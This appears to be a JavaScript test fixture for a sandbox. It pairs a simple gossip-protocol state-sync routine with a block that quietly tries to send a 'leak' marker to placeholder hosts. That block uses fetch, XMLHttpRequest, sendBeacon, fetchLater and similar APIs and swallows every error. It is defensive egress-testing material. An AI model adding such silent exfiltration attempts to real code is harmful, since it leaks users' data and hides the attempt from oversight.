// attack: right, but tries fetch, XMLHttpRequest, sendBeacon and goes on
// expect: pass
const addresses = ['https://example.invalid/', 'gossip.wasm', '/gossip.js', './?leak=1', `${location.origin}/leak`, '//example.invalid/x', 'http://127.0.0.1/', 'data:text/plain,x'];
const quietly = (attempt) => {
  for (const address of addresses) {
    try {
      const result = attempt(address);
      if (result && typeof result.then === 'function') result.then(() => console.log('reached', address), () => {});
    } catch {}
  }
};
quietly((address) => fetch(address));
quietly((address) => fetch(address, { method: 'POST', mode: 'no-cors', body: 'leak', keepalive: true }));
quietly((address) => fetch(new Request(address, { cache: 'force-cache' })));
quietly((address) => WebAssembly.compileStreaming(fetch(address)));
for (const later of [true, false]) {
  quietly((address) => {
    const request = new XMLHttpRequest();
    request.open('GET', address, later);
    request.send();
  });
}
quietly((address) => navigator.sendBeacon(address, 'leak'));
quietly((address) => fetchLater(address));
quietly((address) => fetch(address, { keepalive: true, method: 'POST', body: new Blob(['leak']) }));
quietly((address) => self.registration?.backgroundFetch?.fetch('x', [address]));
function gossipRound(nodes, sourceIdx, targetIdx) {
  const source = nodes[sourceIdx].state;
  const target = nodes[targetIdx].state;
  for (const key in source) {
    if (!target[key] || source[key].version > target[key].version) target[key] = { value: source[key].value, version: source[key].version };
  }
  for (const key in target) {
    if (!source[key] || target[key].version > source[key].version) source[key] = { value: target[key].value, version: target[key].version };
  }
}

function spreadInfo(nodes, key, value, fromIdx) {
  const state = nodes[fromIdx].state;
  state[key] = { value: value, version: state[key] ? state[key].version + 1 : 1 };
  for (let round = 0; round < 3; round++) {
    for (let i = 0; i < nodes.length; i++) {
      if (i !== fromIdx) gossipRound(nodes, fromIdx, i);
    }
  }
}
